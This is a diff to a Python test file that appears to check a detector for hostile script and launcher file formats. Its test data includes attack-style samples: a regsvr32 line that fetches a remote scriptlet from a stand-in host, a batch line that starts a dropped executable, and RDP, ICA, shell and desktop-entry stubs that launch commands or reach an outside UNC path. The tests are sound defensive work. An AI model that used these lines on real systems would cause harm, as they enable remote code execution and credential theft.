@@ -83,7 +83,7 @@ def test_hostile_beginnings_are_linear(data):
 
 @pytest.mark.parametrize(("data", "code"), [
     (b"var s = new ActiveXObject('WScript.Shell');\r\n", "SCRIPT-HOST"),
-    ("Set s = CreateObject(\"Shell.Application\")".encode("utf-16-le"), "SCRIPT-HOST"),
+    ("Set s = CreateObject(\"Shell.Application\")".encode("utf-16-le"), "SCRIPT-HOST"), ("Start-Process calc\r\n".encode("utf-32"), "SCRIPT-HOST"),
     (b"$c = New-Object System.Net.WebClient\r\n", "SCRIPT-HOST"),
     (b"regsvr32 /s /u /i:http://h.example/a.sct scrobj.dll\r\n", "SCRIPT-BATCH"),
     (b"rem\r\nstart \"\" %TEMP%\\a.exe\r\n", "SCRIPT-BATCH"),
@@ -151,6 +151,7 @@ FORMS = {
     "terminal server": b"[WFClient]\r\nVersion=2\r\n",
     "data link": "[oledb]\r\nProvider=x".encode("utf-16"),
     "terminal server behind another section": b"[Encoding]\r\nInputEncoding=UTF8\r\n\r\n[WFClient]\r\nVersion=2\r\n",
+    "terminal server at its end": b"[ApplicationServers]\r\nX=\r\n[X]\r\nInitialProgram=#cmd\r\n[WFClient]\r\nVersion=2\r\n",
     "remote desktop with a gateway": "workspace id:s:x\r\ngatewayhostname:s:h.example\r\ndrivestoredirect:s:*\r\n".encode("utf-16"),
     "remarks in front of a shell file": b"; x\n# y\n[Shell]\nIconFile=\\\\h.example\\s\\a.ico\nCommand=2\n",
     "remarks in front of a desktop entry": b"# x\n[Desktop Entry]\nType=Application\nExec=sh -c id\n",
